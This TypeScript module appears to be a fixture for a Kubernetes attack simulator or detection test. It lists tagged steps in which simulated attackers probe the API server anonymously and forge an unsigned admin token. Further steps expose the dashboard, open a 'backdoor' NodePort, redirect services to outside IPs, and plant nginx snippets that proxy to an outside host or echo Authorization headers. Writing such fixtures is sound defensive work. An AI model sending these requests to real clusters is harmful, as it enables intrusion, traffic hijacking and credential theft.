import { asks, attack } from '../ask.ts';
import { goodSpec, pod, reviewOfOwnRules } from '../objects.ts';
import { apps, core, network } from '../places.ts';
import type { AttackStep } from '../step.ts';
import { adminConf, basket, kube7Kubectl, nadia, passerby, pavel } from './attackers.ts';

const nmap = asks('passerby', 'Nmap Scripting Engine');
const browser = asks('passerby', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0');
const far = { 'x-forwarded-for': '45.155.205.233' };
const tor = { 'x-forwarded-for': '185.220.101.34' };
const unsigned = { token: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06YWRtaW4ifQ.' };

/** From outside, without an account or with one that is not his. */
export const knockingSteps: readonly AttackStep[] = [
  ...attack(
    'initial access',
    ['IA01', passerby.get('pods that nobody was to see', `${core('open')}/pods`)],
    ['IA01', browser.get('settings through a browser, not logged in', `${core('open')}/configmaps?limit=50`)],
    ['IA01', passerby.get('services, not logged in', `${core('open')}/services`)],
    ['IA02 IA03', passerby.post('a pod, not logged in', `${core('default')}/pods`, pod('x', goodSpec()))],
    [
      'IA02 IA03',
      passerby.merge('a change of a pod, not logged in', `${core('orders')}/pods/cart-6d5f-abcde`, {
        metadata: { labels: { a: 'b' } },
      }),
    ],
    ['IA03', passerby.get('secrets of the system, not logged in', `${core('kube-system')}/secrets`)],
    ['IA03 DI07', passerby.get('all pods, not logged in', '/api/v1/pods')],
    ['IA03', nmap.get('nodes', '/api/v1/nodes')],
    ['IA03', nmap.get('roles', '/apis/rbac.authorization.k8s.io/v1/clusterroles')],
    ['IA03', nmap.get('metrics', '/metrics')],
    ['IA03', nmap.get('log files of the server', '/logs/kube-apiserver.log')],
    ['IA03', nmap.get('profile of the server', '/debug/pprof/heap')],
    ['IA03', nmap.get('names in a dictionary', '/api/v1/namespaces/guess-{n}/configmaps', { times: 12 })],
    [
      'IA03 EX03',
      passerby.open('a session, not logged in', `${core('orders')}/pods/cart-6d5f-abcde/exec?command=id&stdout=true`),
    ],
    ['IA05', browser.get('tokens from a list', '/api/v1/namespaces', { token: 'guess-{n}-0123456789abcdef', times: 14 })],
    [
      'IA05',
      asks('passerby', 'python-requests/2.28.1').get('a token with no signature', '/api/v1/secrets', { ...unsigned, times: 6 }),
    ],
    ['IA05', nadia.get('an expired certificate', '/api/v1/namespaces', { certificate: 'expired', times: 6 })],
    ['IA05', nadia.get('a certificate of another authority', '/api/v1/nodes', { certificate: 'foreign', times: 6 })],
    [
      'IA06 DI04',
      pavel.get('what is refused, from a public address', `${core('billing')}/secrets/card-key-{n}`, { headers: far, times: 12 }),
    ],
    ['IA08 N12 N13', basket.get('its token, shown from a public address', `${core('orders')}/pods`, { headers: far })],
    [
      'IA08 N12 N13',
      basket.post(
        'what it may do, from a public address',
        '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
        reviewOfOwnRules('orders'),
        { headers: tor },
      ),
    ],
    [
      'IA08 N12 N13 N27',
      kube7Kubectl.get('the node by kubectl, from a public address', '/api/v1/nodes/ip-10-4-0-7', { headers: far }),
    ],
    ['IA11 N15', adminConf.get('all pods, with the file of the control plane', '/api/v1/pods?limit=500')],
    ['IA11 N15', adminConf.get('the namespaces, with the same file', '/api/v1/namespaces')],
    [
      'IA11 N15',
      adminConf.strategic('a setting, with the same file', `${core('orders')}/configmaps/flags`, { data: { debug: 'true' } }),
    ],
  ),
  ...attack(
    'exposure',
    [
      'IA12',
      nadia.merge('the dashboard gets an address of its own', `${core('kubernetes-dashboard')}/services/kubernetes-dashboard`, {
        spec: { type: 'LoadBalancer' },
      }),
    ],
    [
      'IA12 PS12',
      nadia.post('a second service before the dashboard', `${core('kubernetes-dashboard')}/services`, {
        apiVersion: 'v1',
        kind: 'Service',
        metadata: { name: 'kubernetes-dashboard-ext' },
        spec: { type: 'NodePort', selector: { 'k8s-app': 'kubernetes-dashboard' }, ports: [{ port: 443, targetPort: 8443 }] },
      }),
    ],
    [
      'IA12 PS14',
      nadia.post('an ingress to the dashboard', `${network('kubernetes-dashboard')}/ingresses`, {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: { name: 'board' },
        spec: {
          rules: [
            {
              host: 'board.example.com',
              http: {
                paths: [
                  {
                    path: '/',
                    pathType: 'Prefix',
                    backend: { service: { name: 'kubernetes-dashboard', port: { number: 443 } } },
                  },
                ],
              },
            },
          ],
        },
      }),
    ],
    [
      'PS12',
      nadia.json('a port on every node for a database', `${core('orders')}/services/cart`, [
        { op: 'replace', path: '/spec/type', value: 'NodePort' },
      ]),
    ],
    [
      'PS12',
      nadia.apply('the same by server-side apply', `${core('orders')}/services/backdoor`, {
        apiVersion: 'v1',
        kind: 'Service',
        metadata: { name: 'backdoor' },
        spec: { type: 'NodePort', ports: [{ port: 4444, nodePort: 31337 }], selector: { app: 'cart' } },
      }),
    ],
    [
      'PS13 N28',
      nadia.strategic('addresses of others for a service', `${core('orders')}/services/gateway`, {
        spec: { externalIPs: ['203.0.113.80'] },
      }),
    ],
    [
      'PS13 PE24',
      nadia.merge('an address in the status of a service', `${core('orders')}/services/front/status`, {
        status: { loadBalancer: { ingress: [{ ip: '10.96.0.10' }] } },
      }),
    ],
    [
      'PS13',
      nadia.post('slices that lead a service elsewhere', '/apis/discovery.k8s.io/v1/namespaces/orders/endpointslices', {
        apiVersion: 'discovery.k8s.io/v1',
        kind: 'EndpointSlice',
        metadata: { name: 'cart-evil', labels: { 'kubernetes.io/service-name': 'cart' } },
        addressType: 'IPv4',
        endpoints: [{ addresses: ['198.51.100.23'] }],
        ports: [{ port: 80 }],
      }),
    ],
    [
      'PS14',
      nadia.post('an ingress without a certificate', `${network('orders')}/ingresses`, {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: { name: 'plain' },
        spec: { defaultBackend: { service: { name: 'cart', port: { number: 80 } } } },
      }),
    ],
    [
      'PS14',
      nadia.json('the certificate of an ingress goes', `${network('orders')}/ingresses/shop`, [
        { op: 'remove', path: '/spec/tls' },
      ]),
    ],
    [
      'N28',
      nadia.merge('a snippet in an annotation of an ingress', `${network('orders')}/ingresses/shop`, {
        metadata: {
          annotations: {
            'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "a: b"; proxy_pass http://198.51.100.9;',
          },
        },
      }),
    ],
    [
      'N28',
      nadia.merge('a snippet for the whole server', `${network('orders')}/ingresses/shop`, {
        metadata: {
          annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'location /x { return 200 "$http_authorization"; }' },
        },
      }),
    ],
    [
      'PE03 N25',
      nadia.strategic('a workload on the network of the node', `${apps('orders')}/deployments/mailer`, {
        spec: { template: { spec: { hostNetwork: true } } },
      }),
    ],
  ),
];
